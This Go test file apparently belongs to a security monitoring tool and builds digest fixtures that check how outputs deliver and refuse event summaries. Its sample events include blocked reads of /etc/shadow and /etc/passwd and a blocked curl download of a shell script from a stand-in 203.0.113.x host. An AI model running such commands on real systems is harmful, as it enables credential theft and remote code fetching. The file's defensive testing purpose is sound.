package outputtest

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/sidearmor/sidearmor/outputs"
	"github.com/sidearmor/sidearmor/schema"
)

// DigestCase is a digest that outputs are tried on.
type DigestCase struct {
	Name   string
	Digest *outputs.Digest
}

// Digests are those that every output that can digest has a golden file for. Each
// call makes new ones.
func Digests() []DigestCase {
	return []DigestCase{
		{"digest-file", digest(1234, "/etc/*", variants(BlockedFile, "/etc/shadow", "/etc/passwd", "/etc/ssh/sshd_config")...)},
		{"digest-same-file", digest(2, "/etc/shadow", BlockedFile())},
		{"digest-exec", digest(17, "/usr/bin/curl http://203.0.113.*/x.sh", variants(BlockedExec,
			"/usr/bin/curl http://203.0.113.9/x.sh", "/usr/bin/curl http://203.0.113.10/x.sh")...)},
		{"digest-connect", digest(300, "remoteip=203.0.113.* port=443 protocol=TCP", variants(AuditedConnect,
			"remoteip=203.0.113.9 port=443 protocol=TCP", "remoteip=203.0.113.77 port=443 protocol=TCP")...)},
		{"digest-log", digest(100_000, "/tmp/*", variants(Log, "/tmp/out", "/tmp/in")...)},
		{"digest-system", digest(3, "", SystemEvent())},
		{"digest-falco", digest(40, "/etc/*", Falco(), Falco())},
		{"digest-hostile", digest(1<<40, Bad+"*"+Bad, Hostile(), Hostile(), Hostile())},
		{"digest-hostile-falco", digest(1<<40, Bad+"*"+Bad, HostileFalco(), HostileFalco(), HostileFalco())},
	}
}

func digest(n int, resource string, examples ...schema.Event) *outputs.Digest {
	first := time.Date(2026, 3, 4, 5, 6, 7, 123456789, time.UTC)
	return &outputs.Digest{Count: n, First: first, Last: first.Add(59 * time.Second), Resource: resource, Examples: examples}
}

// variants are an event about several resources.
func variants(base func() schema.Event, resources ...string) []schema.Event {
	var all []schema.Event
	for _, resource := range resources {
		e := base()
		r := e.Record()
		if r.Operation == schema.OperationFile {
			program, _, _ := strings.Cut(r.Source, " ")
			r.Source = program + " " + resource
		}
		r.Resource = resource
		all = append(all, e)
	}
	return all
}

// digests delivers every digest, checks what arrives, and how refusals come back.
func (s Spec) digests(t *testing.T) {
	r := newReceiver(t, s)
	o := New(t, s.Kind, s.Settings(t, r.URL))
	d, can := o.(outputs.Digester)
	if can != s.Kind.Digests {
		t.Fatalf("the kind says that it digests: %v, the output that it can: %v", s.Kind.Digests, can)
	}
	if !can {
		return
	}
	for _, c := range Digests() {
		t.Run(c.Name, func(t *testing.T) {
			r.reset(t, nil)
			if err := d.DeliverDigest(t.Context(), c.Digest); err != nil || r.requests() != 1 {
				t.Fatalf("%d requests, error %v", r.requests(), err)
			}
		})
	}
	for _, code := range []int{http.StatusBadRequest, http.StatusTooManyRequests, http.StatusBadGateway} {
		r.reset(t, status(code))
		err := d.DeliverDigest(t.Context(), Digests()[0].Digest)
		checkError(t, err, 1)
		if want, _ := s.class(code); err == nil || Class(err) != want {
			t.Errorf("%d: %v, want %v", code, err, want)
		}
	}
}
